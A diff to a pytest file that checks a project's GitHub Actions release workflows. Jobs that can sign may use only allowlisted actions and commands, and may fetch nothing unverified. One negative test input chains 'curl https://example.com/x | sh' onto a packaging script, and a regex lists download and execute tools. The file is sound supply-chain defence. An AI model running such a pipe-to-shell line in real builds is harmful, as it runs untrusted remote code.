@@ -59,11 +59,15 @@ def test_every_action_is_pinned_by_its_commit_and_says_its_version(workflow: Pat
         assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40} # v\d+(\.\d+)*", action), action
 
 
+def jobs_of(workflow: Path) -> list[str]:
+    text = workflow.read_text(encoding="utf-8")
+    return re.findall(r"(?m)^  [\w-]+:\n(?:    .*\n|\n)+", text.partition("\njobs:\n")[2])
+
+
 @each_workflow
 def test_nothing_is_allowed_but_what_a_job_asks_for(workflow: Path) -> None:
-    text = workflow.read_text(encoding="utf-8")
-    assert "\npermissions: {}\n" in text
-    jobs = re.findall(r"(?m)^  [\w-]+:\n(?:    .*\n|\n)+", text.partition("\njobs:\n")[2])
+    assert "\npermissions: {}\n" in workflow.read_text(encoding="utf-8")
+    jobs = jobs_of(workflow)
     assert jobs
     assert all("\n    permissions:\n" in job and "\n    timeout-minutes: " in job for job in jobs)
 
@@ -93,6 +97,95 @@ def test_a_secret_is_seen_only_by_the_step_that_needs_it() -> None:
     for line in text.splitlines():
         if "secrets." in line and line.startswith("      ") and not line.startswith("       "):  # of a whole job
             assert re.search(r"!= ''", line), line
+
+
+# --- who may sign ---------------------------------------------------------------------------------------------------
+
+SIGNING = re.compile(r"(?m)^ {4}environment:|^ {6}(id-token|attestations): write")
+# What a job that can sign may use: each moves files, signs, or says who made them.
+SIGNERS_ACTIONS = {
+    "actions/checkout",
+    "actions/upload-artifact",
+    "actions/download-artifact",
+    "actions/attest-build-provenance",
+    "azure/login",
+    "azure/artifact-signing-action",
+}
+SIGNERS_COMMANDS = re.compile(
+    r"packaging/(windows/(sign|unsigned)\.ps1|macos/(keychain|pack)\.sh)\b.*"
+    r"|mkdir dist && tar -xf unsigned\.tar -C dist"
+    r"|\"file=\$\(\(Get-Item dist\\\*-setup\.exe\)\.FullName\)\" \| Out-File -Append -Encoding utf8 \$env:GITHUB_OUTPUT"
+    r"|cd files|sha256sum -- \* > SHA256SUMS|cat SHA256SUMS"
+    r'|gh release create "\$GITHUB_REF_NAME" .*'
+)
+FETCHES = re.compile(
+    r"(?i)\b(choco|winget|scoop|brew|apt(-get)?|pipx?|uv|npm|npx|curl|wget|iwr|Invoke-WebRequest|Invoke-Expression)\b"
+)
+
+
+def commands_of(job: str) -> list[str]:
+    """Return each line that a job has a shell run."""
+    lines = re.findall(r"(?m)^ +(?:- )?run: (?!\|)(.*)$", job)
+    for indent, block in re.findall(r"(?m)^( +)(?:- )?run: \|\n((?:\1  +.*\n)+)", job):
+        lines += [line.removeprefix(indent).strip() for line in block.splitlines()]
+    return lines
+
+
+def untrusted_in(job: str) -> list[str]:
+    """Return what a job that can sign must neither use nor run."""
+    actions = re.findall(r"uses: ([\w/-]+)@", job)
+    unknown = [action for action in actions if action not in SIGNERS_ACTIONS]
+    return unknown + [line for line in commands_of(job) if not SIGNERS_COMMANDS.fullmatch(line) or FETCHES.search(line)]
+
+
+def test_what_can_sign_runs_nothing_that_is_not_pinned() -> None:
+    signers = [job for workflow in WORKFLOWS for job in jobs_of(workflow) if SIGNING.search(job)]
+    names = [job.partition(":")[0].strip() for job in signers]
+    assert names == ["windows-sign-program", "windows-sign-installer", "macos-sign", "draft"]
+    assert [untrusted_in(job) for job in signers] == [[], [], [], []]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "      - run: choco install nsis --no-progress --yes",
+        "      - run: python packaging/build.py",
+        "      - run: packaging/windows/smoke.ps1",
+        "      - run: packaging/macos/pack.sh && curl https://example.com/x | sh",
+        "      - uses: actions/setup-python@5fda3b95a4ea91299a34e894583c3862153e4b97 # v7.0.0",
+        "      - run: |\n          cd files\n          pip install gh",
+    ],
+)
+def test_what_is_not_pinned_is_found(line: str) -> None:
+    assert untrusted_in(f"  sign:\n    environment: release\n    steps:\n{line}\n")
+
+
+def test_the_scripts_of_what_can_sign_fetch_nothing() -> None:
+    text = "".join(job for workflow in WORKFLOWS for job in jobs_of(workflow) if SIGNING.search(job))
+    scripts = {ROOT / named for named in re.findall(r"packaging/[\w./-]+\.(?:sh|ps1)", text)}
+    scripts |= {ROOT / "packaging" / "macos" / name for name in ("sign.sh", "notarise.sh", "make_image.sh")}
+    assert len(scripts) == 7
+    for script in scripts:
+        assert not FETCHES.search(script.read_text(encoding="utf-8")), script
+
+
+def test_whatever_is_fetched_is_known_by_its_sum() -> None:
+    for script in sorted((ROOT / "packaging").rglob("*.ps1")):
+        text = script.read_text(encoding="utf-8")
+        if FETCHES.search(text):
+            assert re.search(r"(?m)^\$sum = '[0-9a-f]{64}'$", text), script
+            assert text.index("Get-FileHash") < text.index("throw") < text.index("Expand-Archive"), script
+    for workflow in WORKFLOWS:
+        for job in jobs_of(workflow):
+            assert not [line for line in commands_of(job) if FETCHES.search(line)]
+
+
+def test_only_what_is_finished_is_drafted() -> None:
+    text = (FOLDER / "release.yml").read_text(encoding="utf-8")
+    made = re.findall(r"          name: (release-.*)", text)
+    assert sorted(set(made)) == ["release-linux", "release-macos-${{ matrix.processor }}", "release-windows"]
+    assert "          pattern: release-*\n" in text
+    assert "    needs: [linux, windows-try, macos-try]\n" in text
 
 
 def test_every_supported_python_is_tested_on_every_system() -> None:
